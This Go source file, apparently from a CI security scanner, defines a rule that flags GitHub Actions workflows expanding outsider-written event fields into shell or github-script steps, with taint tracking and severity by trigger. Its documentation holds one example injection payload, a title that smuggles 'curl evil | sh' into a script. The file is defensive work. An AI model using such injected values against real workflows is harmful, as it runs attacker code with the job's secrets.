package pipeline

import (
	"fmt"
	"github.com/tollgate-dev/tollgate/internal/lazyre"
	"slices"
	"strings"

	"github.com/rhysd/actionlint"

	"github.com/tollgate-dev/tollgate/finding"
)

var templateInjection = finding.Rule{
	ID:      "ci/template-injection",
	Title:   "Untrusted text expanded into a script",
	Default: finding.High,
	Doc: "A `${{ }}` expression whose value an outsider writes is expanded into a `run:` script or\n" +
		"a `github-script` `script:` — for every step, AI or not. GitHub substitutes the text before\n" +
		"the shell (or Node) parses the script, so a title like `a\"; curl evil | sh; echo \"` runs as\n" +
		"commands with the job's token and secrets. A job or step whose condition (or a needed\n" +
		"job's) admits only trusted writers — an actor, an OWNER/MEMBER/COLLABORATOR association,\n" +
		"the same repository, a trusted event — is not flagged; a label or an environment approval\n" +
		"is not enough (the approver may not see a hostile branch name). Sources: outsider-written event fields\n" +
		"(issue, PR, comment, review and discussion titles and bodies, branch names, commit\n" +
		"messages and authors, `workflow_run` branch and title), whole event objects\n" +
		"(`toJSON(github.event.issue)`), `env.X` set from them, and outputs of earlier steps (or,\n" +
		"through `needs`, of other jobs) whose script writes such text — or issue and comment text\n" +
		"it fetched with `gh` — to `$GITHUB_OUTPUT`. Expressions are parsed with actionlint's\n" +
		"expression parser, so `github.event.issue.number`, `contains(github.event.comment.body,\n" +
		"'x')` or `!github.event.issue.body` (booleans) and `github.event.issue && 'issue'` (the\n" +
		"literal, or a falsy value) are not flagged; `a || b` may expand a.\n\n" +
		"Severity follows the trigger's privilege: high when an outsider's event runs the workflow\n" +
		"with the base repository's secrets (`pull_request_target`, `issue_comment`, `issues`,\n" +
		"`workflow_run`, discussions, reviews), low for `pull_request` alone (a fork's run has a\n" +
		"read-only token and no secrets), medium otherwise (a merged commit's message on `push`).\n\n" +
		"Pass the value through an environment variable and quote it:\n\n" +
		"```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```\n\n" +
		"AI outputs are `ci/ai-output-to-shell`'s; text in an AI step's own script is\n" +
		"`ci/ai-prompt-injection`'s (a line they report is not reported again).",
	Controls: []string{"SOC2:CC6.8", "SOC2:CC8.1", "NIST-AI-RMF:MANAGE-2.4", "ISO42001:A.6.2.8"},
}

func init() { register(templateInjection, checkTemplateInjection) }

// untrustedPath matches a whole outsider-written field path.
var untrustedPath = lazyre.New(`^(?:` + untrustedExpr.String() + `)$`)

// untrustedObjects are event objects that hold outsider-written fields:
// expanding one whole (`toJSON(github.event.issue)`) expands them too.
var untrustedObjects = []string{"github.event", "github.event.issue", "github.event.pull_request", "github.event.pull_request.head",
	"github.event.comment", "github.event.review", "github.event.review_comment", "github.event.discussion", "github.event.head_commit",
	"github.event.commits", "github.event.commits.*", "github.event.workflow_run", "github.event.release", "github.event.pages"}

// exprPaths returns the property paths an expression reads (the longest
// path of each access, so `github.event.issue.title` once).
func exprPaths(n actionlint.ExprNode, out []string) []string {
	if n == nil {
		return out
	}
	if p := exprPath(n); p != "" {
		return append(out, p)
	}
	switch x := n.(type) {
	case *actionlint.NotOpNode, *actionlint.CompareOpNode:
		// A negation or a comparison yields a boolean: nothing of its
		// operands reaches the script.
		return out
	case *actionlint.LogicalOpNode:
		// `a && b` is b when a is truthy, else a falsy a (null, '', 0 or
		// false): only b's text can reach the script. `a || b` may be either.
		if x.Kind == actionlint.LogicalOpNodeKindAnd {
			return exprPaths(x.Right, out)
		}
		return exprPaths(x.Right, exprPaths(x.Left, out))
	case *actionlint.FuncCallNode:
		switch strings.ToLower(x.Callee) {
		case "contains", "startswith", "endswith", "success", "failure", "always", "cancelled", "hashfiles":
			return out // booleans and hashes
		}
		for _, a := range x.Args {
			out = exprPaths(a, out)
		}
	case *actionlint.IndexAccessNode:
		return exprPaths(x.Operand, out)
	}
	return out
}

// exprsIn returns the expressions of `${{ }}` in text with their byte offsets.
func exprsIn(text string) (exprs []string, offs []int) {
	if !strings.Contains(text, "${{") {
		return nil, nil
	}
	for _, m := range exprRe.FindAllStringSubmatchIndex(text, -1) {
		exprs = append(exprs, text[m[2]:m[3]])
		offs = append(offs, m[0])
	}
	return exprs, offs
}

// injected says which untrusted value an expression expands, and how it
// is untrusted; "" when none.
func (t *jobTaint) injected(expr string) (string, string) {
	paths, ok := exprPathsOf(expr)
	if !ok {
		return "", ""
	}
	for _, p := range paths {
		if v, why := t.judgePath(p); v != "" {
			// Report the path as written (property names are case-insensitive).
			if i := strings.Index(strings.ToLower(expr), v); i >= 0 && len(strings.ToLower(expr)) == len(expr) {
				v = expr[i : i+len(v)]
			}
			return v, why
		}
	}
	return "", ""
}

// judgePath says whether a property path read by an expression carries
// untrusted text, and how.
func (t *jobTaint) judgePath(p string) (string, string) {
	switch {
	// Every untrustedPath match is github.head_ref or starts github.event.
	case (p == "github.head_ref" || strings.HasPrefix(p, "github.event.")) && untrustedPath.MatchString(p) && !strings.HasPrefix(p, "github.event.inputs."):
		return p, "written by outsiders"
	case slices.Contains(untrustedObjects, p):
		return p, "an event object holding outsider-written fields"
	case strings.HasPrefix(p, "env."):
		// Property names are case-insensitive: env.Body is env.BODY.
		names := make([]string, 0, len(t.env))
		for name := range t.env {
			names = append(names, name)
		}
		slices.Sort(names)
		for _, name := range names {
			if strings.EqualFold(name, strings.TrimPrefix(p, "env.")) {
				return p, "set from " + t.env[name]
			}
		}
	case strings.HasPrefix(p, "steps."):
		if src := t.outputs[outputRef(p)]; src != "" {
			return p, src
		}
	case strings.HasPrefix(p, "needs."):
		if src := t.needs[outputRef(p)]; src != "" {
			return p, src
		}
	}
	return "", ""
}

// outputRef cuts a path to "steps.x.outputs.y" / "needs.x.outputs.y".
func outputRef(p string) string {
	parts := strings.Split(p, ".")
	if len(parts) < 4 || parts[2] != "outputs" {
		return ""
	}
	return strings.Join(parts[:4], ".")
}

// jobTaint is what carries untrusted text in a job: env names, step
// outputs ("steps.x.outputs.y") and needed jobs' outputs, each with how.
// With p set, only event fields a trigger of p can carry are untrusted.
type jobTaint struct {
	p                   *Pipeline
	env, outputs, needs map[string]string
}

// newJobTaint starts a job's carriers: workflow and job env set from
// untrusted text, and the tainted outputs of the jobs it needs.
func newJobTaint(j *Job, jobOuts map[string]map[string]string) *jobTaint {
	t := &jobTaint{env: map[string]string{}, outputs: map[string]string{}, needs: map[string]string{}}
	for name, x := range taintedEnv(j.Pipeline.Env, j.Env) {
		t.env[name] = x
	}
	for _, n := range j.Needs {
		for o, src := range jobOuts[n] {
			t.needs[strings.ToLower("needs."+n+".outputs."+o)] = src
		}
	}
	return t
}

// withStepEnv returns the carriers as a step sees them: its own env too.
func (t *jobTaint) withStepEnv(s *Step) *jobTaint {
	own := taintedEnvFor(t.p, s.Env)
	if len(own) == 0 {
		return t
	}
	c := &jobTaint{p: t.p, env: map[string]string{}, outputs: t.outputs, needs: t.needs}
	for k, v := range t.env {
		c.env[k] = v
	}
	for k, v := range own {
		c.env[k] = v
	}
	return c
}

// addStep records the outputs a step's script writes from untrusted text:
// an untrusted expression or fetched issue text on the line, or a shell
// variable holding either (env set from it).
func (a *analysis) addStep(t *jobTaint, s *Step) {
	if s.Run == "" || s.ID == "" || a.aiByStep[s] != nil || !strings.Contains(s.Run, "GITHUB_OUTPUT") {
		return
	}
	vars := map[string]bool{}
	why := map[string]string{}
	for name, x := range t.withStepEnv(s).env {
		vars[name], why[name] = true, x
	}
	src := ""
	tt := a.propagate(s, func(c shellCall) bool {
		if x := untrustedFor(t.p, lineText(s, c.Line)); x != "" {
			src = x
			return true
		}
		if f := fetchSource(c); f != "" {
			src = "text fetched with " + f
			return true
		}
		return false
	}, vars)
	if src == "" {
		for _, l := range tt.Lines {
			for _, v := range a.facts(s.Run).uses[l] {
				if why[v] != "" && src == "" {
					src = why[v]
				}
			}
		}
	}
	for o := range tt.Outputs {
		t.outputs[strings.ToLower("steps."+s.ID+".outputs."+o)] = fmt.Sprintf("output of step %q carrying %s", s.Label(), src)
	}
}

// injectionSeverity ranks by the trigger's privilege.
func injectionSeverity(p *Pipeline) (finding.Severity, string) {
	if bad := untrustedEvents(p); len(bad) > 0 {
		return finding.High, bad[0]
	}
	ts := p.EffectiveTriggers()
	if slices.Contains(ts, "pull_request") {
		return finding.Low, "pull_request"
	}
	if len(ts) > 0 {
		return finding.Medium, ts[0]
	}
	return finding.Medium, ""
}

func checkTemplateInjection(a *analysis) {
	for _, p := range a.workflows() {
		if p.Kind != GitHub {
			continue
		}
		sev, trig := injectionSeverity(p)
		jobOuts := map[string]map[string]string{}
		// Jobs in file order; a job's needs come before it in most files,
		// and an output is only followed into jobs listed after it.
		for _, j := range p.Jobs {
			t := newJobTaint(j, jobOuts)
			guarded := identityGuarded(j, nil)
			for _, s := range j.AllSteps() {
				if !guarded && !stepIdentityGuarded(j, s) {
					a.injectStep(s, t.withStepEnv(s), sev, trig)
				}
				if s.Origin == nil {
					a.addStep(t, s)
				}
			}
			for _, o := range j.Outputs {
				exprs, _ := exprsIn(o.Value)
				for _, x := range exprs {
					if v, why := t.injected(x); v != "" {
						if jobOuts[j.ID] == nil {
							jobOuts[j.ID] = map[string]string{}
						}
						jobOuts[j.ID][o.Key] = fmt.Sprintf("output %s of job %q (%s: %s)", o.Key, j.ID, v, why)
					}
				}
			}
		}
	}
}

// injectStep reports the untrusted expressions of one step's script.
func (a *analysis) injectStep(s *Step, t *jobTaint, sev finding.Severity, trig string) {
	report := func(pos Pos, expr, why, where string) {
		if a.reportedAt(templateInjection, pos) || a.reportedAt(aiPromptInjection, pos) || a.reportedAt(aiOutputToShell, pos) {
			return
		}
		e := ev("expression", expr, "source", why)
		if trig != "" {
			e["trigger"] = trig
		}
		f := a.report(templateInjection, pos, e, "%q (%s) is expanded into the %s of step %q", expr, why, where, s.Label())
		f.Severity = sev
	}
	for _, l := range s.RunLines {
		exprs, _ := exprsIn(l.Text)
		for _, x := range exprs {
			if v, why := t.injected(x); v != "" {
				report(l.Pos, v, why, "script")
				break
			}
		}
	}
	if strings.HasPrefix(strings.ToLower(s.Uses), "actions/github-script@") {
		if kv, ok := Lookup(s.With, "script"); ok {
			exprs, offs := exprsIn(kv.Value)
			for i, x := range exprs {
				if v, why := t.injected(x); v != "" {
					report(offsetPos(kv.ValuePos, kv.Value, offs[i]), v, why, "github-script")
					break
				}
			}
		}
	}
}
